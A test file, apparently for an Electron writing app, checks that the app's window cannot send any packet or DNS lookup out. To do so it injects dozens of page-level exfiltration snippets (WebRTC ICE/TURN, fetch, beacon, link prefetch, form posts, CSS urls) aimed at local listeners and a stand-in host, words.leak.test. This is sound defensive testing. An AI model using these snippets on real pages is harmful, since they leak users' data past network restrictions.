import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import { hasElectron, openApp } from './support/open-app.ts'

/** An address of this machine that is not the loopback, as a server elsewhere has one. */
const ownAddress =
  Object.values(networkInterfaces())
    .flatMap((each) => each ?? [])
    .find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.1'

/** Ports that count what reaches them, by UDP and by TCP, at every address of this machine. */
async function listen() {
  const got: string[] = []
  const udp = createSocket('udp4').on('message', (bytes) => got.push(`udp ${bytes.length}`))
  const tcp = createServer((socket) => {
    got.push('tcp')
    socket.on('error', () => undefined).destroy()
  })
  udp.bind(0, '0.0.0.0')
  await once(udp, 'listening')
  const { port } = udp.address()
  tcp.listen(port, '0.0.0.0')
  await once(tcp, 'listening')
  onTestFinished(() => {
    udp.close()
    tcp.close()
  })
  return { got, port }
}

/** Ways out of a page. Each gets the address and the port of a listener; what it throws or gets does not matter. */
const waysOut: Record<string, string> = {
  webrtc: `const servers = [
      { urls: 'stun:' + host + ':' + port },
      { urls: 'stun:words.leak.test:' + port },
      { urls: ['turn:' + host + ':' + port + '?transport=udp', 'turn:' + host + ':' + port + '?transport=tcp',
          'turn:words.leak.test:' + port + '?transport=tcp'],
        username: 'words', credential: 'of a draft' },
    ]
    const peer = new RTCPeerConnection({ iceServers: servers })
    peer.createDataChannel('out')
    await peer.setLocalDescription(await peer.createOffer())
    for (const protocol of ['udp', 'tcp']) {
      await peer.addIceCandidate({ sdpMid: '0', candidate:
        'candidate:1 1 ' + protocol + ' 2122 ' + host + ' ' + port + ' typ host' + (protocol === 'tcp' ? ' tcptype passive' : '') }).catch(() => 0)
    }`,
  'webrtc that knows its peer': `const peer = new RTCPeerConnection()
    const other = new RTCPeerConnection()
    other.createDataChannel('out')
    await other.setLocalDescription(await other.createOffer())
    await peer.setRemoteDescription(other.localDescription)
    await peer.setLocalDescription(await peer.createAnswer())
    await peer.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 udp 2122 ' + host + ' ' + port + ' typ host' })
    await peer.addIceCandidate({ sdpMid: '0', candidate: 'candidate:2 1 tcp 2122 ' + host + ' ' + port + ' typ host tcptype passive' })`,
  fetch: `await fetch('http://' + host + ':' + port + '/words', { mode: 'no-cors' })`,
  xhr: `const request = new XMLHttpRequest(); request.open('POST', 'http://' + host + ':' + port); request.send('words')`,
  websocket: `new WebSocket('ws://' + host + ':' + port + '/words')`,
  webtransport: `await new WebTransport('https://' + host + ':' + port + '/words').ready`,
  'event source': `new EventSource('http://' + host + ':' + port + '/words')`,
  beacon: `navigator.sendBeacon('http://' + host + ':' + port, 'words')`,
  image: `new Image().src = 'http://' + host + ':' + port + '/words.png'`,
  sound: `new Audio('http://' + host + ':' + port + '/words.mp3').play().catch(() => 0)`,
  font: `await new FontFace('out', 'url(http://' + host + ':' + port + '/words.woff)').load()`,
  module: `await import('http://' + host + ':' + port + '/words.js')`,
  worker: `new Worker('http://' + host + ':' + port + '/words.js')`,
  'worker of text': `new Worker(URL.createObjectURL(new Blob(["fetch('http://" + host + ":" + port + "')"])))`,
  'service worker': `await navigator.serviceWorker.register('http://' + host + ':' + port + '/words.js')`,
  'window of its own': `window.open('http://' + host + ':' + port + '/words')`,
  navigation: `location.href = 'http://' + host + ':' + port + '/words'`,
  'mail address': `location.href = 'mailto:words@' + host`,
}

const link = (rel: string, address: string): string => `{
  const link = document.createElement('link')
  link.rel = '${rel}'; link.as = 'fetch'; link.href = ${address}
  document.head.append(link)
}`
const rels =
  'preconnect dns-prefetch prefetch prerender preload modulepreload stylesheet icon manifest'
for (const rel of rels.split(' ')) {
  const [by, named] = [
    `'http://' + host + ':' + port + '/words'`,
    `'http://words.leak.test:' + port`,
  ]
  Object.assign(waysOut, { [`link ${rel}`]: link(rel, by) + link(rel, named) })
}
for (const [name, html] of Object.entries({
  ping: `<a href="#" ping="FAR">x</a>`,
  form: `<form method="post" action="FAR"><input name="words" value="of a draft"></form>`,
  frame: `<iframe src="FAR"></iframe>`,
  object: `<object data="FAR"></object><embed src="FAR">`,
  refresh: `<meta http-equiv="refresh" content="0;url=FAR">`,
  'image map': `<svg><image href="FAR"/><use href="FAR#a"/></svg><video poster="FAR" src="FAR"></video>`,
  template: `<iframe srcdoc="<img src='FAR'>"></iframe>`,
  style: `<div style="background: url(FAR)"></div><style>body { background: url(FAR) }</style>`,
})) {
  waysOut[name] = `const far = 'http://' + host + ':' + port + '/words'
    const box = document.createElement('div')
    box.innerHTML = ${JSON.stringify(html)}.replaceAll('FAR', far)
    document.body.append(box)
    box.querySelector('a')?.click()
    box.querySelector('form')?.submit()`
}
waysOut['speculation rules'] = `const script = document.createElement('script')
  script.type = 'speculationrules'
  script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + host + ':' + port + '/words'] }],
    prerender: [{ source: 'list', urls: ['http://' + host + ':' + port + '/words'] }] })
  document.head.append(script)`

describe.skipIf(!hasElectron)('the network of the window', () => {
  it('lets no packet and no name out, in whatever way a page tries', async () => {
    const { got, port } = await listen()
    const { app, page, dataFolder } = await openApp()
    await page.locator('.cm-content').waitFor()
    const log = join(dataFolder, 'net-log.json')
    await app.evaluate(({ netLog }, path) => netLog.startLogging(path), log)
    for (const [name, code] of Object.entries(waysOut)) {
      for (const host of new Set(['127.0.0.1', ownAddress])) {
        const run = `void (async (host, port) => { ${code} })('${host}', ${port}).catch(() => 0)`
        await page.evaluate(run).catch((error: unknown) => {
          throw new Error(`The way out “${name}” could not be tried: ${String(error)}`)
        })
      }
    }
    await page.waitForTimeout(4000)
    await app.evaluate(({ netLog }) => netLog.stopLogging())
    const names = (await readFile(log, 'utf8')).match(/[^"]*leak\.test[^"]*/g) ?? []
    expect([...got, ...names]).toEqual([])
    expect(page.url()).toMatch(/^app:\/\/desk\/index\.html#?$/)
    // The counters count: what Node sends, as for a server of the writer, arrives.
    await expect(fetch(`http://${ownAddress}:${port}/`)).rejects.toThrow()
    const other = createSocket('udp4').unref()
    other.send('words', port, ownAddress)
    await expect.poll(() => got.toSorted()).toEqual(['tcp', 'udp 5'])
  })
})
